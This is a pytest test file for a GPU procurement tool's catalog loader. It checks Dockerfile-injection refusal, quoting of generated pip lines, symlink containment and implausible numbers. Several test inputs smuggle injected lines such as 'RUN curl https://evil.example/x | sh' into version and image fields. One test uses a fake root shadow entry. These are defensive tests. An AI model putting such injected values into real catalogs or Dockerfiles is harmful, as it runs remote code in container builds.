"""User-catalog fields that reach a generated Dockerfile are checked when the catalog loads; a user catalog
directory is read from inside itself only."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from catalog.loader import CatalogError, load_catalog
from procurement.dockerfile import generate_dockerfile
from tests.conftest import REPO

SHIPPED = REPO / "catalog" / "data"


def _one(section: str, **changes: object) -> dict[str, object]:
    data = yaml.safe_load((SHIPPED / f"{section}.yaml").read_text(encoding="utf-8"))
    return {**data[section][0], "id": f"company-{section}", **changes}


@pytest.mark.parametrize("section, field, value", [
    ("images", "cuda", "12.1\nRUN curl https://evil.example/x | sh"),
    ("frameworks", "version", "2.1\nRUN curl https://evil.example/x | sh"),
    ("frameworks", "version", "2.1 && curl evil | sh"),
    ("images", "reference", "harbor.corp.local/AI-Team/pytorch:1.0"),  # made step 4 unopenable
    ("images", "reference", "nvcr.io/nvidia/pytorch:23.05-py3\nRUN id"),
    ("frameworks", "cuda_versions", ["12.1\nRUN id"]),
])
def test_a_field_that_would_inject_a_dockerfile_line_is_refused_at_load(tmp_path: Path, section: str, field: str,
                                                                          value: object) -> None:
    (tmp_path / "company.yaml").write_text(yaml.safe_dump({section: [_one(section, **{field: value})]}),
                                           encoding="utf-8")
    with pytest.raises(CatalogError) as raised:
        load_catalog([tmp_path])
    assert any("company.yaml" in p and field in p for p in raised.value.problems), raised.value.problems


def test_generated_pip_lines_are_quoted_shell_words() -> None:
    from catalog.models import ContainerImage, Framework

    cat = load_catalog()
    image = next(i for i in cat.all(ContainerImage) if "nvidia/cuda" in i.reference)
    for fw in cat.all(Framework):
        text = generate_dockerfile(image, fw, None, "t", "en")
        pip = [line for line in text.splitlines() if line.startswith("RUN pip install")]
        assert len(pip) == 1 and "\n" not in pip[0]
        if fw.framework == "tensorflow":
            assert f"'tensorflow[and-cuda]=={fw.version}'" in pip[0]  # a bracket is a shell glob unquoted


def test_catalog_check_does_not_follow_links_out_of_the_directory(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:$6$hash-of-the-root-password:19000:0:99999:7:::\n", encoding="utf-8")
    overlay = tmp_path / "company"
    overlay.mkdir()
    (overlay / "x.yaml").symlink_to(secret)
    env = {**os.environ, "PYTHONPATH": str(REPO), "GPU_PROCURE_CACHE_DIR": "off"}
    done = subprocess.run([sys.executable, "-m", "procurement.commands.cli", "catalog", "check", str(overlay)],
                          capture_output=True, text=True, timeout=120, env=env)
    out = done.stdout + done.stderr
    assert done.returncode != 0, out
    assert "outside the user catalog directory" in out and "hash-of-the-root-password" not in out


@pytest.mark.parametrize("field, value, message", [
    ("memory_gib", 1e9, "not possible for one part"), ("tdp_w", 1e-9, "not possible for one part"),
    ("tdp_w", 1e15, "not possible for one part"), ("pcie_lanes", True, "not true/false"),
])
def test_impossible_catalog_numbers_are_refused(tmp_path: Path, field: str, value: object, message: str) -> None:
    (tmp_path / "company.yaml").write_text(yaml.safe_dump({"gpus": [_one("gpus", **{field: value})]}),
                                           encoding="utf-8")
    with pytest.raises(CatalogError) as raised:  # each passed validation
        load_catalog([tmp_path])
    assert any(field in p and message in p for p in raised.value.problems), raised.value.problems
